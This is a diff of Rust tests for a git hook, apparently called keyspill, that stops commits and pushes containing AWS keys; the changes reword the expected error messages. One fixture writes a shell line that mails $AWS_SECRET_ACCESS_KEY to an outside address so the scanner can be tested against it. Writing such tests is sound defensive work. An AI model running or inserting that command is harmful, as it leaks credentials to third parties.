@@ -22,9 +22,9 @@ fn commit(sandbox: &Sandbox, args: &[&str]) -> Run {
     sandbox.try_git(&[&["commit", "-q", "-m", "x"], args].concat())
 }
 
-fn assert_blocked(run: &Run, deed: &str) {
+fn assert_blocked(run: &Run, action: &str) {
     assert_ne!(run.code, Some(0), "{}", run.stderr);
-    assert!(run.stderr.contains(&format!("keyspill stopped the {deed}: there is an AWS key in it")), "{}", run.stderr);
+    assert!(run.stderr.contains(&format!("keyspill stopped the {action}: found an AWS key")), "{}", run.stderr);
     let ours = run.stderr.lines().filter(|line| !line.contains("error: failed to push")).count();
     assert!(ours < 15, "{}", run.stderr);
 }
@@ -153,7 +153,7 @@ fn only_what_is_staged_can_let_a_key_through() {
     sandbox.git(&["add", "a.env"]);
     let run = sandbox.try_git(&["commit", "-q", "-m", "x"]);
     assert_blocked(&run, "commit");
-    assert!(run.stderr.contains("keyspill.toml is not staged"), "{}", run.stderr);
+    assert!(run.stderr.contains("keyspill.toml is ignored: its current content is not staged"), "{}", run.stderr);
     // A different version is staged.
     sandbox.write_bytes("keyspill.toml", b"");
     sandbox.git(&["add", "keyspill.toml"]);
@@ -365,7 +365,7 @@ fn pre_receive() {
     let push = |args: &[&str]| sandbox.try_git(&[&["push", "-q", &url], args].concat());
     let assert_refused = |run: Run| {
         assert_ne!(run.code, Some(0));
-        assert!(run.stderr.contains("remote: keyspill stopped the push: there is an AWS key in it"), "{}", run.stderr);
+        assert!(run.stderr.contains("remote: keyspill stopped the push: found an AWS key"), "{}", run.stderr);
     };
     assert_eq!(push(&["HEAD:main"]).code, Some(0));
     sandbox.write("a.env", PAIR);
@@ -415,7 +415,7 @@ fn a_hook_without_its_binary_lets_nothing_through_unless_told() {
             assert!(run.stderr.contains("keyspill is neither at /nowhere/keyspill nor in PATH"), "{}", run.stderr);
             let status = sandbox.run(&["hook", "status"]);
             assert_eq!(status.code, Some(2));
-            assert!(status.stdout.contains("/nowhere/keyspill is gone"), "{}", status.stdout);
+            assert!(status.stdout.contains("/nowhere/keyspill no longer exists"), "{}", status.stdout);
         }
     }
 }
@@ -527,7 +527,7 @@ fn a_hook_of_one_repository_and_one_for_all_do_not_meet() {
     assert_eq!(sandbox.run(&["hook", "uninstall", "--global"]).code, Some(0));
     sandbox.git(&["config", "--global", "core.hooksPath", ".githooks"]);
     let run = sandbox.run(&["hook", "install", "--global"]);
-    assert!(run.code == Some(2) && run.stderr.contains("another directory in each repository"), "{}", run.stderr);
+    assert!(run.code == Some(2) && run.stderr.contains("differs for each repository"), "{}", run.stderr);
     sandbox.git(&["config", "--global", "core.hooksPath", sandbox.path().join("mine").to_str().expect("UTF-8")]);
     let run = sandbox.run(&["hook", "install"]);
     assert!(run.code == Some(2) && run.stderr.contains("use --global"), "{}", run.stderr);
@@ -562,7 +562,7 @@ fn what_is_no_key_is_not_called_one() {
     sandbox.write("mail.sh", "echo \"$AWS_SECRET_ACCESS_KEY\" | mail -s key bob@example.com\n");
     let run = commit(&sandbox, &[]);
     assert!(
-        run.code != Some(0) && run.stderr.contains("keyspill stopped the commit: see what is in it"),
+        run.code != Some(0) && run.stderr.contains("keyspill stopped the commit: there is a finding"),
         "{}",
         run.stderr
     );
@@ -570,7 +570,7 @@ fn what_is_no_key_is_not_called_one() {
     assert!(run.stderr.contains("Do not send the key."), "{}", run.stderr);
     sandbox.write("mail.sh", "a={{akia}}\nb={{akia b}}\n");
     let run = commit(&sandbox, &[]);
-    assert!(run.stderr.contains("there are AWS keys in it, 2 of them"), "{}", run.stderr);
+    assert!(run.stderr.contains("keyspill stopped the commit: found 2 AWS keys"), "{}", run.stderr);
 }
 
 #[test]
@@ -701,8 +701,8 @@ impl World {
         match fate {
             Passes => assert_eq!(run.code, Some(0), "{context}"),
             Stopped => {
-                let deed = if self.kind == "pre-commit" { "commit" } else { "push" };
-                let words = format!("keyspill stopped the {deed}: there is an AWS key in it");
+                let action = if self.kind == "pre-commit" { "commit" } else { "push" };
+                let words = format!("keyspill stopped the {action}: found an AWS key");
                 assert!(run.code != Some(0) && run.stderr.contains(&words), "{context}");
             }
             Fails(words) => assert!(run.code != Some(0) && run.stderr.contains(words), "{context}"),
